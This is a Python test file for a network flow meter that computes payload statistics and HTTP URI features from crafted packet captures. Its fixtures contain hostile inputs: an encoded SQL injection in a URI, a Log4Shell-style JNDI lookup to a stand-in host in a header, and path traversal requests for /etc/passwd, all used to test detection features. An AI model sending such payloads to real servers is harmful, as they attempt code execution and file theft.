"""Payload statistics: hand-computed values on crafted packets, the first payload packet of
each direction only, batching, snap length, the switch that turns them off, agreement with
nDPI's HTTP URLs on real captures, and no payload byte in any output."""

from __future__ import annotations

import math
import re
import struct

import numpy as np
import pytest
from scapy.all import IP, TCP, UDP, Ether

from quietwire.agent.features.schema import FEATURE_NAMES
from quietwire.agent.flow.payload import DIRECTION_STATS, HTTP_STATS, PAYLOAD_WINDOW
from quietwire.agent.output.tablefields import identity_columns
from quietwire.cli import main

from .conftest import meter_file, write_pcap

C, S = "10.0.0.1", "10.0.0.2"
REQUEST = (
    b"GET /search?q=%27%20OR%201%3D1--&x=<b> HTTP/1.1\r\n"
    b"Host: a.example\r\nUser-Agent: ${jndi:ldap://x/a}\r\n\r\n"
)
RESPONSE = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"


def http_session(request=REQUEST, response=RESPONSE, extra=b"\x00\xff" * 10):
    return [
        Ether() / IP(src=C, dst=S) / TCP(sport=40000, dport=80, flags="S"),
        Ether() / IP(src=S, dst=C) / TCP(sport=80, dport=40000, flags="SA"),
        Ether() / IP(src=C, dst=S) / TCP(sport=40000, dport=80, flags="PA") / request,
        Ether() / IP(src=S, dst=C) / TCP(sport=80, dport=40000, flags="PA") / response,
        Ether() / IP(src=C, dst=S) / TCP(sport=40000, dport=80, flags="PA") / extra,
    ]


def features_of(path, **kw) -> dict[str, float]:
    flows = meter_file(path, **kw)
    assert len(flows) == 1
    return dict(zip(FEATURE_NAMES, flows.features[0].tolist()))


def test_http_request_statistics_by_hand(tmp_path):
    f = features_of(write_pcap(tmp_path / "h.pcap", http_session(), [0, 0.01, 0.02, 0.03, 0.04]))
    # The request (100 bytes): URI "/search?q=%27%20OR%201%3D1--&x=<b>" is 34 bytes, its
    # query 26, with four %XX escapes and three specials (< >, and %27, an encoded quote); two
    # header lines of 17 + 32, with three unusual characters ($ { }).
    assert len(REQUEST) == 100
    assert f["http_request"] == 1 and f["http_method_get"] == 1
    assert f["http_uri_length"] == 34 and f["http_query_length"] == 26
    assert f["http_uri_escapes"] == 4 and f["http_uri_specials"] == 3
    assert f["http_header_count"] == 2 and f["http_header_bytes"] == 17 + 32
    assert f["http_header_specials"] == 3 and f["http_body_specials"] == 0
    assert f["http_uri_dotdots"] == 0
    # Byte classes of the request, counted by hand: 3 script bytes ($ { }), 2 angle, 4
    # escapes of 3 bytes, 12 whitespace (8 spaces... and 4 CR/LF pairs = 8 bytes: see below).
    req = REQUEST.decode()
    spaces = sum(ch in " \t\r\n" for ch in req)
    assert f["src2dst_payload_share_script"] == pytest.approx(3 / 100, abs=1e-3)
    assert f["src2dst_payload_share_angle"] == pytest.approx(2 / 100, abs=1e-3)
    assert f["src2dst_payload_share_escapes"] == pytest.approx(12 / 100, abs=1e-3)
    assert f["src2dst_payload_share_space"] == pytest.approx(spaces / 100, abs=1e-3)
    assert f["src2dst_payload_printable_share"] == 1.0
    assert f["src2dst_payload_longest_printable"] == 100
    counts = np.bincount(np.frombuffer(REQUEST, np.uint8), minlength=256) / 100
    entropy = -sum(p * math.log2(p) for p in counts if p > 0)
    assert f["src2dst_payload_entropy"] == pytest.approx(entropy, abs=5e-3)
    # The later binary packet of the client does not change them (first payload packet only).
    assert f["src2dst_payload_share_high"] == 0 and f["src2dst_payload_share_control"] == 0
    # The response is not a request: its direction has byte statistics, no HTTP ones.
    assert f["dst2src_payload_longest_printable"] == len(RESPONSE)
    assert f["dst2src_payload_share_quotes"] == 0


def test_binary_payloads_entropy_and_classes(tmp_path):
    assert PAYLOAD_WINDOW == 128  # the values below are for the first 128 bytes
    low, high = bytes(range(128)), bytes(range(128, 256))
    pkts = [
        Ether() / IP(src=C, dst=S) / UDP(sport=5000, dport=9999) / (low + high),
        Ether() / IP(src=S, dst=C) / UDP(sport=9999, dport=5000) / (high + b"\x00" * 300),
    ]
    f = features_of(write_pcap(tmp_path / "b.pcap", pkts, [0, 0.01]))
    assert f["src2dst_payload_entropy"] == pytest.approx(7.0, abs=1e-3)  # 128 values once
    assert f["dst2src_payload_entropy"] == pytest.approx(7.0, abs=1e-3)
    assert f["src2dst_payload_share_high"] == 0 and f["dst2src_payload_share_high"] == 1
    assert f["src2dst_payload_share_letters"] == pytest.approx(52 / 128, abs=1e-3)
    assert f["src2dst_payload_share_digits"] == pytest.approx(10 / 128, abs=1e-3)
    # control: 0x00-0x1f but tab, LF, CR, and 0x7f
    assert f["src2dst_payload_share_control"] == pytest.approx(30 / 128, abs=1e-3)
    # printable 0x20-0x7e (95) and tab, LF, CR; the longest run is 0x20..0x7e
    assert f["src2dst_payload_printable_share"] == pytest.approx(98 / 128, abs=1e-3)
    assert f["src2dst_payload_longest_printable"] == 95
    assert f["dst2src_payload_longest_printable"] == 0
    assert f["http_request"] == 0 and np.isnan(f["http_uri_length"])


def test_path_traversal_counts_decoded_dots():
    """ ".." in a URI, sent plainly or %-encoded (one dot, both, mixed case), counted once per
    pair; a dot in a name is not one; the headers do not count."""
    from quietwire.agent.flow.payload import http_stats

    requests = [
        b"GET /a/../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET /a/%2e%2e/%2E%2E%2fetc HTTP/1.1\r\n\r\n",
        b"GET /a/.%2e/b..c HTTP/1.1\r\n\r\n",
        b"GET /a.b/c HTTP/1.1\r\nReferer: /../x\r\n\r\n",
    ]
    raw = np.frombuffer(b"".join(requests) + bytes(2048), np.uint8)
    offsets = np.cumsum([0] + [len(r) for r in requests[:-1]])
    out = http_stats(raw, offsets, np.array([len(r) for r in requests]))
    assert out[:, HTTP_STATS.index("http_uri_dotdots")].tolist() == [2, 2, 2, 0]


def test_directions_without_payload_are_nan_and_not_http_lookalikes(tmp_path):
    pkts = [
        Ether() / IP(src=C, dst=S) / TCP(sport=40000, dport=80, flags="S"),
        Ether() / IP(src=S, dst=C) / TCP(sport=80, dport=40000, flags="SA"),
        Ether()
        / IP(src=C, dst=S)
        / TCP(sport=40000, dport=80, flags="PA")
        / b"GETX / HTTP/1.1\r\n",
    ]
    f = features_of(write_pcap(tmp_path / "n.pcap", pkts, [0, 0.01, 0.02]))
    assert np.isnan(f["dst2src_payload_entropy"]) and np.isnan(f["dst2src_payload_share_high"])
    assert f["http_request"] == 0  # "GETX" is no method
    pkts[2] = Ether() / IP(src=C, dst=S) / TCP(sport=40000, dport=80, flags="S")
    f = features_of(write_pcap(tmp_path / "s.pcap", pkts, [0, 0.01, 0.02]))
    assert np.isnan(f["http_request"]) and np.isnan(f["src2dst_payload_entropy"])


def test_batching_snap_length_and_the_switch(tmp_path):
    path = write_pcap(tmp_path / "h.pcap", http_session(), [0, 0.01, 0.02, 0.03, 0.04])
    whole = meter_file(path).features
    small = meter_file(path, chunk_bytes=64).features  # the request in a batch of its own
    np.testing.assert_array_equal(whole, small)
    off = meter_file(path, payload=False).features[0]
    names = [f"{d}_payload_{s}" for d in ("src2dst", "dst2src") for s in DIRECTION_STATS]
    names += list(HTTP_STATS)
    payload_cols = [FEATURE_NAMES.index(n) for n in names]
    assert np.isnan(off[payload_cols]).all()
    others = [i for i in range(len(FEATURE_NAMES)) if i not in payload_cols]
    np.testing.assert_array_equal(off[others], whole[0][others])  # nothing else changes
    # A snap length of 80 bytes: 80 - 14 - 20 - 20 = 26 bytes of the request were captured.
    cut = tmp_path / "cut.pcap"
    with cut.open("wb") as w:
        w.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 80, 1))
        for i, pkt in enumerate(http_session()):
            frame = bytes(pkt)
            w.write(struct.pack("<IIII", 0, 10_000 * i, min(len(frame), 80), len(frame)))
            w.write(frame[:80])
    f = features_of(cut)
    assert f["src2dst_payload_longest_printable"] == 26  # "GET /search?q=%27%20OR%201%" ends
    assert f["http_request"] == 1 and f["http_uri_length"] == 26 - 4  # cut by the window end


def test_http_uris_agree_with_ndpi(ndpi):
    """nDPI prints each HTTP flow's URL (host + URI): for requests whose request line fits in
    the window, our URI and query lengths equal its URI's, for >= 95% of them."""
    from .ndpi_results import LINE, _endpoint

    url = re.compile(r"\[URL: ([^\]]*)\]")
    checked = agreed = 0
    for result in sorted((ndpi / "result").glob("*.out")):
        wanted = {}
        for line in result.read_text(errors="replace").splitlines():
            m, u = LINE.match(line), url.search(line)
            if not m or not u or m.group(1) != "TCP" or "/" not in u.group(1):
                continue
            uri = "/" + u.group(1).split("/", 1)[1]
            if not uri.isascii() or len(uri) > PAYLOAD_WINDOW - 20 or " " in uri:
                continue
            try:
                (a, pa), (b, pb) = _endpoint(m.group(2)), _endpoint(m.group(3))
            except ValueError:
                continue
            wanted[(str(a), pa, str(b), pb)] = uri
        capture = ndpi / "pcap" / result.name[:-4]
        if not wanted or not capture.exists():  # a few results have no capture beside them
            continue
        flows = meter_file(capture)
        ident = identity_columns(flows.records)
        col = {n: FEATURE_NAMES.index(n) for n in ("http_uri_length", "http_query_length")}
        for i in range(len(flows)):
            key = (
                ident["src_ip"][i],
                ident["src_port"][i],
                ident["dest_ip"][i],
                ident["dest_port"][i],
            )
            uri = wanted.pop(key, None)
            if uri is None:
                continue
            checked += 1
            query = len(uri.split("?", 1)[1]) if "?" in uri else 0
            got = flows.features[i, [col["http_uri_length"], col["http_query_length"]]]
            agreed += got.tolist() == [len(uri), query]
    print(f"HTTP URIs: {agreed}/{checked} agree with nDPI")
    assert checked > 200 and agreed >= 0.95 * checked


def test_no_payload_byte_reaches_any_output(tmp_path):
    """A request carrying a secret: the flow table, alerts and flow records hold statistics
    only, never the bytes."""
    secret = b"hunter2-SECRET-TOKEN"
    request = b"POST /login HTTP/1.1\r\nHost: a\r\n\r\nuser=bob&password=" + secret
    pcap = write_pcap(tmp_path / "p.pcap", http_session(request), [0, 0.01, 0.02, 0.03, 0.04])
    outputs = [tmp_path / "f.csv", tmp_path / "f.jsonl", tmp_path / "a.json"]
    assert main(["flows", "-q", "--score", str(pcap), "-o", str(outputs[0])]) == 0
    assert main(["flows", "-q", str(pcap), "-o", str(outputs[1])]) == 0
    assert main(["replay", str(pcap), "--alerts", str(outputs[2]), "--flow-alerts"]) == 0
    for out in outputs:
        data = out.read_bytes()
        assert secret not in data and b"hunter2" not in data, out
    # and the meter's records hold numbers only: no column of bytes, none wider per flow
    # than the payload statistics (2 directions x 12)
    records = meter_file(pcap).records
    assert all(v.dtype.kind in "biuf" for v in records.columns.values())
    assert max(int(np.prod(v.shape[1:])) for v in records.columns.values()) == 24


def test_window_statistics_match_a_per_window_reference():
    """direction_stats on many random windows (binary, text, all-printable, none, mixed, with
    %XX escapes, empty) against plain Python over each window's bytes."""
    from quietwire.agent.flow.payload import CLASS_OF, CLASSES, PRINTABLE, direction_stats

    rng = np.random.default_rng(11)
    alphabets = [
        np.arange(256),
        np.arange(32, 127),
        np.array([0, 1, 0x7F, 0x80, 0xFF]),
        np.frombuffer(b"%2e%41ab <'\">${}\x00\xff\r\n", np.uint8),
    ]
    windows = np.concatenate(
        [rng.choice(a, (300, PAYLOAD_WINDOW)).astype(np.uint8) for a in alphabets]
    )
    n_bytes = rng.integers(0, PAYLOAD_WINDOW + 1, len(windows))
    got = direction_stats(windows, n_bytes)
    for row, (w, n) in enumerate(zip(windows, n_bytes)):
        data = w[:n].tobytes()
        if not data:
            assert np.isnan(got[row]).all()
            continue
        counts = [data.count(b) for b in set(data)]
        entropy = -sum(c / n * math.log2(c / n) for c in counts)
        classes = [0] * (len(CLASSES) + 1)
        escaped = set()
        if all(PRINTABLE[b] for b in data):
            for m in re.finditer(rb"%[0-9a-fA-F]{2}", data):
                escaped.update(range(m.start(), m.end()))
        for i, b in enumerate(data):
            classes[CLASSES.index("escapes") if i in escaped else CLASS_OF[b]] += 1
        runs = re.findall(rb"[\x20-\x7e\t\r\n]+", data)
        expect = [entropy, sum(PRINTABLE[b] for b in data) / n, max(map(len, runs), default=0)]
        expect += [c / n for c in classes[: len(CLASSES)]]
        np.testing.assert_allclose(got[row], expect, rtol=1e-5, atol=1e-5, err_msg=str(row))


def test_byte_classes_are_printable_or_not_as_a_whole():
    """_direction_stats counts printable bytes by class (PRINTABLE_CLASSES)."""
    from quietwire.agent.flow.payload import CLASS_OF, PRINTABLE, PRINTABLE_CLASSES

    assert np.array_equal(np.isin(CLASS_OF, PRINTABLE_CLASSES), PRINTABLE)


def test_windows_are_the_bytes_at_each_offset_up_to_the_buffers_end():
    """window() against indexing the buffer byte by byte, its last byte repeated past its end:
    windows inside, ending at and running past the end, and a buffer shorter than a window."""
    from quietwire.agent.flow.payload import window

    rng = np.random.default_rng(2)
    for size in (3000, 200, 7):
        raw = rng.integers(0, 256, size, dtype=np.uint8)
        offset = np.r_[rng.integers(0, size, 50), 0, size - PAYLOAD_WINDOW, size - 1]
        offset = offset[offset >= 0]
        length = rng.integers(-1, 300, len(offset))
        w, n_bytes = window(raw, offset, length)
        index = np.minimum(offset[:, None] + np.arange(PAYLOAD_WINDOW), size - 1)
        np.testing.assert_array_equal(w, raw[index])
        np.testing.assert_array_equal(n_bytes, np.clip(length, 0, PAYLOAD_WINDOW))
